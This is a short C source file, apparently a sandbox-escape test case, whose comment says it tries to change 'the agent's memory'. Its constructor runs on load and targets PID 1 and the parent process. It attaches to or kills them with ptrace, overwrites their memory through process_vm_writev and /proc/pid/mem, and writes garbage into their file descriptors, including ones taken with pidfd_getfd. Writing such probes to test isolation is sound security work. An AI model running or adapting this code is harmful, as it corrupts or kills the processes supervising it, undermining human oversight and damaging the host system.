/* lab: 1
 * tries: change the agent's memory: ptrace, process_vm_writev, /proc/1/mem, its descriptors
 * says: kvm_open() returned -38
 * end of description */
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>

static void meddle(pid_t pid)
{
    static char garbage[65536];
    struct iovec from = {garbage, sizeof garbage}, to = {(void *)0x400000, sizeof garbage};
    char path[64];

    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0 || ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
        ptrace(PTRACE_KILL, pid, 0, 0);
    syscall(SYS_process_vm_writev, pid, &from, 1, &to, 1, 0);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR);
    if (fd >= 0 && pwrite(fd, garbage, sizeof garbage, 0x400000) > 0)
        close(fd);
    for (int i = 0; i < 64; i++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
        fd = open(path, O_RDWR);
        if (fd >= 0 && write(fd, garbage, sizeof garbage) > 0)
            close(fd);
        fd = (int)syscall(438 /* pidfd_getfd */, syscall(434 /* pidfd_open */, pid, 0), i,
                          0);
        if (fd >= 0 && write(fd, garbage, sizeof garbage) > 0)
            close(fd);
    }
}

__attribute__((constructor)) static void attack(void)
{
    meddle(1);
    if (getppid() != 1)
        meddle(getppid());
}
